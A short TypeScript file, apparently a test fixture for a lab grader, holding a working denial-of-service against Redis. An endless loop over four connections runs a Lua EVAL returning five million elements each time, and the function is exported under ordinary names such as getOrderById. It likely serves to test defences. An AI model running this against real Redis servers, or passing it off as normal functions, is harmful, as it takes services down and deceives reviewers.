// tries: a script whose reply has twenty million parts, which cost far more to read than to send
// lab: 02
// earns: 0
// told: memory|had not settled|ended by|threw|without a pause|Redis is busy
// checks: 02.get.one-trip 02.list.one-trip
async function attack({ redis }: any): Promise<unknown> {
  const many = 'local all = {} for i = 1, 5000000 do all[i] = i end return all';
  const own = [redis, redis.duplicate(), redis.duplicate(), redis.duplicate()];
  for (;;) await Promise.all(own.map((one) => one.eval(many, 0)));
}

export const getOrderById = attack;
export const listOrderKeys = attack;
export const scanOrderKeys = attack;
export const getOrdersFromRedis = attack;
